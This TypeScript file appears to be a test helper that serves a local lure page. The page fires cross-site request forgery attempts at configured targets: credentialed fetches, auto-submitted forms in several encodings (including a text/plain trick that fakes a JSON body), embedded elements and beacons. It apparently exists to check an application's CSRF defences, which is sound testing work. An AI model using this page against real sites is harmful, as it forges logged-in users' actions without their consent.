import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Target } from './targets.ts'

export interface AttackServer {
  port: number
  close(): Promise<void>
}

/** Serves the same attack under every name that leads to this machine. */
export async function attackServer(targets: readonly Target[]): Promise<AttackServer> {
  const server = createServer((request, response) => {
    if (request.url !== '/') return response.writeHead(404).end()
    return response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'referrer-policy': 'no-referrer' })
      .end(
        `<!doctype html><title>Ganhe um álbum</title><script>const targets = ${JSON.stringify(targets)};(${attack.toString()})(targets)</script>`,
      )
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    port: (server.address() as AddressInfo).port,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

/** Runs in the attacker's page: everything a page may send to another origin without being asked. */
function attack(aims: readonly Target[]): void {
  const settled: Promise<unknown>[] = []
  const deadline = new Promise((resolve) => setTimeout(resolve, 8_000))
  const loaded = (element: HTMLElement) => {
    settled.push(
      Promise.race([
        new Promise((resolve) => {
          element.addEventListener('load', resolve)
          element.addEventListener('error', resolve)
        }),
        deadline,
      ]),
    )
    document.documentElement.append(element)
  }
  const element = <K extends keyof HTMLElementTagNameMap>(name: K, set: Partial<HTMLElementTagNameMap[K]>) => {
    const made = Object.assign(document.createElement(name), set)
    loaded(made)
  }
  const send = (url: string, init: RequestInit) => settled.push(fetch(url, init).catch(() => undefined))

  const form = (aim: Target, enctype: string, method: string) => {
    const frame = document.createElement('iframe')
    frame.name = `frame${settled.length}`
    loaded(frame)
    const made = document.createElement('form')
    Object.assign(made, { action: aim.url, method, enctype, target: frame.name })
    const fields = Object.entries((aim.body ?? {}) as Record<string, unknown>)
    // As text the whole body becomes JSON with one field too many.
    const asText = [[JSON.stringify(aim.body ?? {}).replace(/\}$/, ',"x":"'), '"}']] as [string, string][]
    for (const [name, value] of enctype === 'text/plain' ? asText : fields) {
      const input = document.createElement('input')
      input.name = name
      input.value = typeof value === 'string' ? value : JSON.stringify(value)
      made.append(input)
    }
    document.documentElement.append(made)
    made.submit()
  }

  for (const aim of aims) {
    const json = JSON.stringify(aim.body ?? {})
    if (aim.method === 'GET') {
      element('img', { src: aim.url })
      element('script', { src: aim.url })
      element('iframe', { src: aim.url })
      element('link', { rel: 'prefetch', href: aim.url })
      form(aim, 'application/x-www-form-urlencoded', 'get')
    } else {
      form(aim, 'application/x-www-form-urlencoded', 'post')
      form(aim, 'text/plain', 'post')
      form(aim, 'multipart/form-data', 'post')
    }
    send(aim.url, { credentials: 'include', mode: 'no-cors' })
    send(aim.url, { credentials: 'include', mode: 'no-cors', method: 'POST', body: json })
    const withBody = aim.method === 'GET' ? {} : { body: json }
    send(aim.url, { credentials: 'include', method: aim.method, ...withBody })
    send(aim.url, {
      credentials: 'include',
      method: aim.method,
      headers: { 'x-revela': '1', 'content-type': 'application/json' },
      ...withBody,
    })
    navigator.sendBeacon(aim.url, new Blob([json], { type: 'text/plain' }))
  }
  void Promise.allSettled(settled).then(() => (document.title = 'feito'))
}
